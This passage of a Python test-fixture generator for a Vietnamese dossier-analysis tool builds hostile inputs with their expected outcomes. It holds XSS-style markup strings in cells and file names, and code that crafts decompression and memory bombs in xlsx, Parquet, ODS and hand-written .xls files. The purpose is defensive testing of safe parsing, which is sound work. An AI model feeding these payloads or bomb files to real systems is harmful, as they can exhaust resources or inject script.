        "Xã <img src=x onerror=alert(1)>",
        "Hộ tịch",
        "# " + "dài " * 300,
        "",
        "",
        "4",
    ],
    ["HS-003", "03/04/2026", "09/04/2026", "", "", "Hộ tịch", "", "", "", "Đang <b>treo</b>"],
]
add(
    "hostile_markup_cells.csv",
    rows_text([["UBND XÃ <script>alert('u')</script>"], *HOSTILE_CELLS]),
    ok(3, 2, 0, 1, unknown_status=1),
    "HTML, Markdown, template and math markup in the unit, field, procedure, officer, system and status cells and "
    "in the title row: read as text (the briefing shows it as text, tests/test_markup_safety.py)",
)
add(
    "hostile_name_``[x](javascript;alert(1))``_$x$_{{y}}_#h.csv",
    rows_text([[*H, "Lĩnh vực"], *FIELD_ROWS]),
    ok(3, 3),
    "a file name with a code span, a link, math, template braces and a heading mark (names with < > are made by "
    "the tests: Windows cannot hold them)",
)
add(
    "ids_fullwidth_lookalike.csv",
    rows_text(
        [
            H,
            ["HS-001", "02/04/2026", "10/04/2026", ""],
            ["ＨＳ－００１", "03/04/2026", "10/04/2026", ""],
            ["НЅ-001", "03/04/2026", "10/04/2026", ""],
            ["hs‐001", "03/04/2026", "10/04/2026", ""],
            ["HS-002", "03/04/2026", "10/04/2026", ""],
        ]
    ),
    ok(5, 2, 0, 3, duplicate_id=3),
    "the same id full width (ＨＳ－００１), with Cyrillic Н and Ѕ, and in lower case with a Unicode hyphen: "
    "duplicates of HS-001 once compared after NFKC, look-alike letters and case folding",
)
rounded = {
    **ok(5, 4, 0, 1, duplicate_id=1),
    "notes_contain": ["4 mã hồ sơ có vẻ đã bị Excel làm tròn", "«1.23457E+17»", "1 dòng trong số đó"],
}
add(
    "ids_excel_rounded.csv",
    rows_text(
        [
            H,
            ["123456789012345000", "02/04/2026", "10/04/2026", ""],
            ["123456789012345000", "03/04/2026", "10/04/2026", ""],
            ["123456789012346000", "03/04/2026", "10/04/2026", ""],
            ["1.23457E+17", "03/04/2026", "10/04/2026", ""],
            ["HS-005", "03/04/2026", "10/04/2026", ""],
        ]
    ),
    rounded,
    "18-digit ids that Excel rounded to 15 significant digits (two dossiers became one id) and one shown as "
    "1.23457E+17: the duplicate is rejected and the notes say the ids look rounded, with examples",
)


# --- memory bombs (issue 16, deliverable 1: cchc_analysis/loaders/limits.py) -------------------------------------
# Small on disk, huge once read: each is refused before anything is allocated (exit 2, naming the part and the
# limit), or read in bounded memory. The big ones (a sheet of 1,1 GB, a string of 1,1 GB, a Parquet column of 3 GB,
# a header of a million cells) are built by tests/test_memory_bombs.py in a temporary folder, under a 2 GB limit.
_SST = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
_WS = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'


def _bomb_cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def _bomb_row(number: int, values: list[str]) -> str:
    return (
        f'<row r="{number}">'
        + "".join(_bomb_cell(f"{'ABCD'[i]}{number}", v) for i, v in enumerate(values))
        + "</row>"
    )


def _bomb_workbook(sheet: str, strings: str = "") -> bytes:
    """An xlsx of one sheet (its XML text) and optionally shared strings, written with fixed timestamps."""
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/>'
        + (
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kinds}.sharedStrings+xml"/>'
            if strings
            else ""
        )
        + "</Types>",
        "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" '
        f'Type="{rels}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{rels}"><sheets><sheet name="Hồ sơ" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" '
        f'Type="{rels}/worksheet" Target="worksheets/sheet1.xml"/>'
        + (
            f'<Relationship Id="rId2" Type="{rels}/sharedStrings" Target="sharedStrings.xml"/>'
            if strings
            else ""
        )
        + "</Relationships>",
        "xl/worksheets/sheet1.xml": sheet,
    }
    if strings:
        parts["xl/sharedStrings.xml"] = strings
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            entry = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o600 << 16
            archive.writestr(entry, text.encode("utf-8"), compresslevel=9)
    return out.getvalue()


_BOMB_HEAD = _bomb_row(1, H) + _bomb_row(2, GOOD[0])
add(
    "bomb_zip_ratio.xlsx",
    _bomb_workbook(
        _WS
        + _BOMB_HEAD
        + '<row><c t="inlineStr"><is><t>HS-002</t></is></c></row>' * 630_000
        + "</sheetData></worksheet>"
    ),
    fails("xl/worksheets/sheet1.xml", "bom zip", "zip bomb", "--limits-scale"),
    "a zip bomb: a sheet of 32 MiB of one row repeated, compressed 343 : 1 (sheets compress 8–15 : 1; the limit is "
    "100 : 1 for a part of 32 MiB or more)",
)
add(
    "bomb_shared_string.xlsx",
    _bomb_workbook(
        _WS + _bomb_row(1, H) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row></sheetData></worksheet>',
        _SST + "<si><t>" + "A" * (5 << 20) + "</t></si></sst>",
    ),
    fails("chuỗi dùng chung", "shared string", "32.767", "--limits-scale"),
    "one shared string of 5 MiB (Excel holds 32 767 characters in a cell; the limit is 1 MiB), found by a bounded "
    "scan before the workbook is opened",
)
add(
    "stray_cell_row_1e9.xlsx",
    _bomb_workbook(_WS + _BOMB_HEAD + _bomb_row(1_000_000_000, ["x"]) + "</sheetData></worksheet>"),
    ok(2, 1, rejected=1, blank_date=1),
    "a stray cell at A1000000000 (beyond Excel's last row): read as a stream, one row numbered 1000000000 (its "
    "received date is blank), not a billion empty ones",
)
add(
    "header_1200_columns.csv",
    rows_text([[*H, *(f"Cột {i}" for i in range(1196))], GOOD[0]]),
    fails("dòng 1 có 1.200 ô", "1.000 cột", "1,200 cells", "--limits-scale"),
    "a header of 1 200 cells (exports have 20 to 60 columns; the limit is 1 000): refused before the header search",
)


def _dictionary_bomb(rows: int, length: int) -> bytes:
    """A Parquet file whose dossier_id is one ``length``-letter string in a dictionary, on every row, stored without
    an Arrow schema so that it is read back as one string per row."""
    import numpy as np
    import pyarrow.parquet as pq

    zeros = pa.array(np.zeros(rows, dtype=np.int32))
    day = pa.array([datetime(2026, 4, 2)], pa.timestamp("us"))
    table = pa.table(
        {
            "dossier_id": pa.DictionaryArray.from_arrays(zeros, pa.array(["x" * length])),
            "received_at": pa.DictionaryArray.from_arrays(zeros, day),
            "due_at": pa.DictionaryArray.from_arrays(zeros, day),
            "resolved_at": pa.DictionaryArray.from_arrays(zeros, day),
        }
    )
    buf = io.BytesIO()
    pq.write_table(table, buf, store_schema=False, compression="zstd")
    return buf.getvalue()


add(
    "bomb_parquet_dictionary.parquet",
    _dictionary_bomb(200_000, 3_000),
    fails("«dossier_id»", "572 MB", "--limits-scale"),
    "a Parquet dictionary of one 3 000-letter id on 200 000 rows: 600 MB once decoded (the limit is 512 MiB a column "
    "in one read), measured from the dictionary before any string is built",
)
_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _ods_row(values: list[str], repeat: str = "") -> str:
    cells = "".join(
        f'<table:table-cell{repeat} office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
        for v in values
    )
    return f"<table:table-row>{cells}</table:table-row>"


def _ods(rows: str) -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="Hồ sơ">{rows}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text, kind in (
            ("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED),
            ("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED),
            ("content.xml", content, zipfile.ZIP_DEFLATED),
        ):
            entry = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            entry.compress_type = kind
            entry.external_attr = 0o600 << 16
            archive.writestr(entry, text.encode("utf-8"))
    return out.getvalue()


add(
    "bomb_ods_repeated_rows.ods",
    _ods(
        _ods_row(H)
        + _ods_row(GOOD[0])
        + '<table:table-row table:number-rows-repeated="1000000">'
        + '<table:table-cell table:number-columns-repeated="90" office:value-type="string"><text:p>x</text:p>'
        + "</table:table-cell></table:table-row>"
    ),
    fails("90.000.180 ô", "20.000.000 ô", "--limits-scale"),
    "an OpenDocument sheet of one kilobyte whose repeated rows and cells stand for 90 million cells (calamine would "
    "allocate them all; the limit is 20 million): refused from content.xml",
)


def _biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _xls(
    rows: list[list[str]], *, stray: tuple[int, int] | None = None, dimensions: tuple[int, int] | None = None
):
    """A minimal BIFF8 workbook (one sheet «Hồ sơ» of text cells) in an OLE compound file, written by hand.

    ``stray``: one more cell «x» at (row, column), 0-based; ``dimensions``: what its DIMENSIONS record claims
    (last row + 1, last column + 1), by default the cells' true extent.
    """
    cells = [(r, c, v) for r, row in enumerate(rows) for c, v in enumerate(row)]
    if stray:
        cells.append((*stray, "x"))
    strings = sorted({v for _, _, v in cells})
    index = {text: i for i, text in enumerate(strings)}
    sst = struct.pack("<II", len(strings), len(strings)) + b"".join(
        struct.pack("<HB", len(t), 1) + t.encode("utf-16-le") for t in strings
    )
    last_row, last_col = dimensions or (max(r for r, _, _ in cells) + 1, max(c for _, c, _ in cells) + 1)
    sheet = _biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 0, 0, 6))
    sheet += _biff_record(0x0200, struct.pack("<IIHHH", 0, last_row, 0, min(last_col, 0xFFFF), 0))
    sheet += b"".join(_biff_record(0x00FD, struct.pack("<HHHI", r, c, 15, index[v])) for r, c, v in cells)
    sheet += _biff_record(0x000A, b"")
    name = "Hồ sơ".encode("utf-16-le")

    def workbook_globals(sheet_offset: int) -> bytes:
        bound = struct.pack("<IBBBB", sheet_offset, 0, 0, len(name) // 2, 1) + name
        return (
            _biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 6))
            + _biff_record(0x0085, bound)
            + _biff_record(0x00FC, sst)
            + _biff_record(0x000A, b"")
        )

    stream = workbook_globals(len(workbook_globals(0))) + sheet
    stream = stream.ljust(max(4096, -(-len(stream) // 512) * 512), b"\0")  # a regular stream, whole sectors
    n = len(stream) // 512
    free, end = 0xFFFFFFFF, 0xFFFFFFFE
    fat = [*range(1, n), end, end, 0xFFFFFFFD] + [free] * (126 - n)

    def entry(entry_name: str, kind: int, start: int, size: int, child: int = free) -> bytes:
        raw = (entry_name + "\0").encode("utf-16-le")
        ids = struct.pack("<HBBIII", len(raw), kind, 1, free, free, child)
        return raw.ljust(64, b"\0") + ids + b"\0" * 36 + struct.pack("<III", start, size, 0)

    directory = (entry("Root Entry", 5, end, 0, child=1) + entry("Workbook", 2, 0, len(stream))).ljust(
        512, b"\0"
    )
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += b"\0" * 6 + struct.pack("<9I", 0, 1, n, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", n + 1, *[free] * 108)
    return header + stream + directory + struct.pack("<128I", *fat)


_XLS_ROWS = [H, GOOD[0]]
add(
    "xls_biff8.xls",
    _xls(_XLS_ROWS),
    ok(1, 1),
    "an old .xls (BIFF8, written by hand): read like any workbook; the bombs below differ from it by one record",
)
add(
    "bomb_xls_stray_cell.xls",
    _xls(_XLS_ROWS, stray=(65_535, 65_535), dimensions=(2, 4)),
    fails("4.294.967.296 ô", "20.000.000 ô", "as the .xls records say", "--limits-scale"),
    "an .xls with one cell at row 65 536, column 65 536 (the format stops at column 256): calamine would allocate "
    "4 billion cells and abort; refused from the workbook stream's records",
)
add(
    "bomb_xls_dimensions.xls",
    _xls(_XLS_ROWS, dimensions=(0xFFFFFFFF, 0xFFFF)),
    fails("trang tính trải ra", "--limits-scale"),
    "an .xls whose DIMENSIONS record claims 4 billion rows × 65 535 columns (calamine reserves them and aborts)",
)


if __name__ == "__main__":
    main()
